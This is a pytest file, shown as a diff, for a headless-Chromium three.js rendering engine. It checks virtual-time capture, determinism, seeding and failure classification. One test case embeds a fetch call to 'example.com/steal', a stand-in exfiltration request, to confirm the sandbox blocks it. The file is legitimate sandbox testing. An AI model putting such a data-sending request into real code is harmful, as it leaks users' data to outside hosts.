@@ -1,0 +1,130 @@
+"""The threejs engine in headless Chromium: virtual time, determinism, failure classes."""
+
+from __future__ import annotations
+
+import numpy as np
+import pytest
+
+from visphy_core.engine import FailureClass, Program, RenderContract
+from visphy_core.video import frame_digest
+
+pytestmark = pytest.mark.browser
+
+CONTRACT = RenderContract(fps=5, n_frames=6, width=128, height=128, timeout_s=20)
+
+
+@pytest.fixture(scope="module")
+def engine():
+    from visphy_plugins.engines.threejs import ThreeJsEngine
+
+    eng = ThreeJsEngine()
+    yield eng
+    eng.close()
+
+
+def page(script: str, canvas: bool = True) -> Program:
+    body = '<canvas id="c" width="128" height="128"></canvas>' if canvas else ""
+    return Program("html", f"<html><body>{body}<script>{script}</script></body></html>")
+
+
+# A 2D-canvas program that encodes virtual time and Math.random into what it draws.
+CLOCK_PROGRAM = page("""
+const ctx = document.getElementById('c').getContext('2d');
+let timerTicks = 0; setInterval(() => { timerTicks += 1; }, 100);
+const r = Math.random();
+function draw(t) {
+  ctx.fillStyle = '#fff'; ctx.fillRect(0, 0, 128, 128);
+  ctx.fillStyle = '#f34f46';
+  ctx.fillRect(Math.round(performance.now() / 20), Math.floor(r * 1e6) % 90, 10, 10);
+  ctx.fillStyle = '#1877f2'; ctx.fillRect(0, 100, timerTicks, 5);
+  document.title = String(Date.now());
+  requestAnimationFrame(draw);
+}
+requestAnimationFrame(draw);
+""")
+
+
+def red_x(frame: np.ndarray) -> int:
+    ys, xs = np.nonzero((frame[..., 0] > 200) & (frame[..., 1] < 120))
+    return int(xs.min())
+
+
+def test_frames_are_captured_at_exact_virtual_times(engine):
+    result = engine.render(CLOCK_PROGRAM, CONTRACT)
+    assert result.ok, result.error
+    # frame k is captured at t = k / fps = 200 k ms; the square sits at x = t / 20
+    assert [red_x(f) for f in result.frames] == [0, 10, 20, 30, 40, 50]
+
+
+def test_same_program_gives_identical_frames(engine):
+    a = engine.render(CLOCK_PROGRAM, CONTRACT)
+    b = engine.render(CLOCK_PROGRAM, CONTRACT)
+    assert [frame_digest(f) for f in a.frames] == [frame_digest(f) for f in b.frames]
+
+
+def test_seed_changes_math_random(engine):
+    a = engine.render(CLOCK_PROGRAM, CONTRACT)
+    b = engine.render(CLOCK_PROGRAM, RenderContract(**{**CONTRACT.__dict__, "seed": 7}))
+    assert frame_digest(a.frames[0]) != frame_digest(b.frames[0])
+
+
+def test_webgl_three_js_renders_deterministically(engine):
+    program = page("""
+const renderer = new THREE.WebGLRenderer({canvas: document.getElementById('c'), antialias: false});
+const scene = new THREE.Scene(); scene.background = new THREE.Color(0xffffff);
+const camera = new THREE.OrthographicCamera(0, 128, 128, 0, -1, 1);
+const ball = new THREE.Mesh(new THREE.CircleGeometry(10, 64), new THREE.MeshBasicMaterial({color: 0xf34f46}));
+scene.add(ball);
+const world = new CANNON.World(); world.gravity.set(0, -60, 0);
+const body = new CANNON.Body({mass: 1, shape: new CANNON.Sphere(10)}); body.position.set(64, 110, 0);
+world.addBody(body);
+let last = performance.now();
+function loop(now) { world.step(1/60, (now - last) / 1000, 10); last = now;
+  ball.position.set(body.position.x, body.position.y, 0); renderer.render(scene, camera);
+  requestAnimationFrame(loop); }
+setupRecording(renderer.domElement, 1200);
+requestAnimationFrame(loop);
+""")
+    a = engine.render(program, CONTRACT)
+    b = engine.render(program, CONTRACT)
+    assert a.ok, a.error
+    assert [frame_digest(f) for f in a.frames] == [frame_digest(f) for f in b.frames]
+    heights = [np.nonzero(f[..., 1] < 120)[0].mean() for f in a.frames]
+    assert heights == sorted(heights) and heights[-1] - heights[0] > 20  # it falls (rows grow)
+
+
+@pytest.mark.parametrize("script, canvas, failure", [
+    ("function draw( { }", True, FailureClass.SYNTAX_ERROR),
+    ("const c = document.getElementById('c').getContext('2d');"
+     "function d(t){ if (t > 500) throw new Error('boom at 0.5 s');"
+     " c.fillRect(t/10,0,5,5); requestAnimationFrame(d);} requestAnimationFrame(d);",
+     True, FailureClass.RUNTIME_ERROR),
+    ("requestAnimationFrame(() => { for (;;) {} });", True, FailureClass.TIMEOUT),
+    ("console.log('no canvas here');", False, FailureClass.BLANK_OUTPUT),
+    ("document.getElementById('c').getContext('2d');", True, FailureClass.BLANK_OUTPUT),
+    ("fetch('https://example.com/steal?k=1').catch(() => {});"
+     "const c = document.getElementById('c').getContext('2d');"
+     "function d(t){ c.fillRect(t/10,0,5,5); requestAnimationFrame(d);} requestAnimationFrame(d);",
+     True, FailureClass.SANDBOX_VIOLATION),
+])
+def test_broken_programs_get_the_right_failure_class(engine, script, canvas, failure):
+    contract = RenderContract(**{**CONTRACT.__dict__, "timeout_s": 5})
+    result = engine.render(page(script, canvas), contract)
+    assert result.failure is failure, (result.error, result.logs[:5])
+    assert result.frames is None
+    # the pool keeps working after each failure
+    assert engine.render(CLOCK_PROGRAM, CONTRACT).ok
+
+
+def test_cdn_script_tags_are_replaced_by_vendored_libraries(engine):
+    program = Program("html", """<html><head>
+<script src="https://cdn.jsdelivr.net/npm/three@0.160.0/build/three.min.js"></script>
+</head><body><canvas id="c" width="128" height="128"></canvas><script>
+const ctx = document.getElementById('c').getContext('2d');
+function d(t){ ctx.fillStyle = THREE.REVISION === '160' ? '#000' : '#f00';
+  ctx.fillRect(t / 20, 0, 8, 8); requestAnimationFrame(d); } requestAnimationFrame(d);
+</script></body></html>""")
+    result = engine.render(program, CONTRACT)
+    assert result.ok, result.error
+    assert not result.blocked_requests
+    assert result.frames[3][0:8, 30:38].max() < 10  # drawn in black: THREE r160 was present
